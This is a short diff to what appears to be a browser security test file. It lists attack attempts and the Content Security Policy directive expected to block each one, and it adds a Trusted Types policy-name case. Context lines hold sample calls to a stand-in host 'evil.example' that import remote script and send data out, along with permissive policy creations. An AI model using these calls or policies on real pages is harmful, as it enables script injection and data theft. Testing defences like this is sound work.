@@ -16,6 +16,8 @@ const attempts = {
   "trustedTypes.createPolicy('evil', { createHTML: (html) => html })": 'trusted-types',
   "trustedTypes.createPolicy('default', { createHTML: (html) => html })": 'trusted-types',
   "trustedTypes.createPolicy('dompurify', { createHTML: (html) => html })": 'trusted-types',
+  // The page has created it at the start, and a name can be used once.
+  "trustedTypes.createPolicy('list-worker', { createHTML: (html) => html })": 'trusted-types',
   "import('https://evil.example/x.js')": 'script-src-elem',
   "fetch('https://evil.example/take?it')": 'connect-src',
   "Object.assign(new Image(), { src: 'https://evil.example/take.png' }).decode()": 'img-src',
